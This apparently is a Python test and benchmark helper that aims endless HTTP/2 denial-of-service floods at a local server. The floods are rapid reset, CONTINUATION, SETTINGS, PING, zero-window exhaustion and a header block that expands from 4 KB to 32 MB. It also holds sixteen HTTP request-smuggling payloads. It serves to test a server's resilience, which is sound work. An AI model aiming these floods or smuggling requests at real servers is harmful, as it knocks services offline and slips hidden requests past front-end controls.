"""What no polite client sends, as endless attacks: for the tests here and for bench/abuse_bench.py. Each attack takes a port and a function that
says when to stop, and begins again where the server has ended its connection."""
import contextlib
import socket

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
HEAD = b"\x82\x86\x84\x41\x01x"  # GET http / x


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def begin(port, settings=b""):
    s = socket.create_connection(("127.0.0.1", port), timeout=5)
    s.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
    return s


def flood(data, drain=True):
    """An attack that sends `data` on one connection after another until each has been ended."""
    def attack(port, stop):
        while not stop():
            with contextlib.suppress(OSError):
                with begin(port) as s:
                    while not stop():
                        s.sendall(data)
                        if drain:
                            s.setblocking(False)
                            with contextlib.suppress(BlockingIOError):
                                if not s.recv(1 << 16):
                                    break
                            s.settimeout(5)
    return attack


def zero_windows(port, stop):
    """Answers that nobody takes: ninety of them on each connection, eight connections at a time."""
    no_window = (4).to_bytes(2, "big") + bytes(4)
    block = b"\x82\x86\x04\x0d/openapi.json\x41\x01x"
    while not stop():
        with contextlib.ExitStack() as held, contextlib.suppress(OSError):
            for _ in range(8):
                s = held.enter_context(begin(port, no_window))
                s.sendall(b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, block) for i in range(90)))
            for _ in range(20):
                if stop():
                    return
                s.settimeout(0.05)
                with contextlib.suppress(TimeoutError):
                    s.recv(1 << 16)


def smuggling(port, stop):
    """Requests whose end is a matter of opinion, over and over."""
    while not stop():
        for request in SMUGGLED:
            with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=2) as s:
                s.sendall(request)
                s.recv(4096)
            if stop():
                return


RESETS = b"".join(frame(HEADERS, END_STREAM | END_HEADERS, s, HEAD) + frame(RST_STREAM, 0, s, b"\0\0\0\x08") for s in range(1, 4001, 2))
HUGE_BLOCK = HEAD + b"\x40\x01x\x7f\xa1\x1e" + b"v" * 4000 + b"\xbe" * 8000  # 4 KB on the wire, 32 MB to whom it expands for
ATTACKS = {
    "rapid reset": flood(RESETS),
    "continuation": flood(frame(HEADERS, END_STREAM, 1, HEAD) + frame(CONTINUATION, 0, 1, b"\0\x01a\x7f\x81\x01" + b"v" * 256) * 200),
    "settings": flood(frame(SETTINGS, 0, 0) * 500),
    "ping": flood(frame(PING, 0, 0, b"12345678") * 500),
    "zero windows": zero_windows,
    "huge header list": flood(frame(HEADERS, END_STREAM | END_HEADERS, 1, HUGE_BLOCK)),
    "smuggling": smuggling,
}

HIDDEN = b"GET /v2 HTTP/1.1\r\nHost: hidden\r\n\r\n"


def posted(headers, body):
    return b"POST /api/v1/models/fraud/predict HTTP/1.1\r\nHost: x\r\n" + headers + b"\r\n\r\n" + body


SMUGGLED = [
    posted(b"Content-Length: 4\r\nTransfer-Encoding: chunked", b"0\r\n\r\n" + HIDDEN),
    posted(b"Transfer-Encoding: chunked\r\nContent-Length: 4", b"0\r\n\r\n" + HIDDEN),
    posted(b"Content-Length: 0\r\nContent-Length: 36", HIDDEN),
    posted(b"Content-Length: 0, 36", HIDDEN),
    posted(b"Content-Length: +0", HIDDEN),
    posted(b"Content-Length: 0x0", HIDDEN),
    posted(b"Content-Length : 0", HIDDEN),
    posted(b"Transfer-Encoding: xchunked", b"0\r\n\r\n" + HIDDEN),
    posted(b"Transfer-Encoding: chunked, identity", b"0\r\n\r\n" + HIDDEN),
    posted(b"Transfer-Encoding:\x0bchunked", b"0\r\n\r\n" + HIDDEN),
    posted(b"Transfer-Encoding : chunked", b"0\r\n\r\n" + HIDDEN),
    posted(b"X: y\r\n Transfer-Encoding: chunked", b"0\r\n\r\n" + HIDDEN),
    posted(b"Transfer-Encoding: chunked", b"0x0\r\n\r\n" + HIDDEN),
    posted(b"Transfer-Encoding: chunked", b"-0\r\n\r\n" + HIDDEN),
    posted(b"Transfer-Encoding: chunked", b"fffffffffffffffff\r\n" + HIDDEN),
    posted(b"Transfer-Encoding: chunked", b"1\r\nxx0\r\n\r\n" + HIDDEN),
]


def multiplexed(port, path, streams):
    """`streams` requests on one connection, all open before an answer is read; the number that were answered 200."""
    import h2.connection
    import h2.events
    connection, answered, ended = h2.connection.H2Connection(), set(), 0
    connection.initiate_connection()
    connection.increment_flow_control_window(1 << 24)
    with socket.create_connection(("127.0.0.1", port), timeout=30) as s:
        s.sendall(connection.data_to_send())
        told = False
        while not told:  # how many streams the server takes
            told = any(isinstance(event, h2.events.RemoteSettingsChanged) for event in connection.receive_data(s.recv(65536)))
        assert connection.remote_settings.max_concurrent_streams >= streams
        for _ in range(streams):
            connection.send_headers(connection.get_next_available_stream_id(), [(":method", "GET"), (":path", path), (":scheme", "http"),
                                                                               (":authority", "x")], end_stream=True)
        s.sendall(connection.data_to_send())
        while ended < streams:
            data = s.recv(1 << 16)
            if not data:
                break
            for event in connection.receive_data(data):
                if isinstance(event, h2.events.ResponseReceived) and dict(event.headers)[b":status"] == b"200":
                    answered.add(event.stream_id)
                elif isinstance(event, h2.events.DataReceived):
                    connection.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                elif isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset)):
                    ended += 1
            s.sendall(connection.data_to_send())
    return len(answered)


def resident_bytes(pid):
    with open(f"/proc/{pid}/statm") as f:
        return int(f.read().split()[1]) * 4096
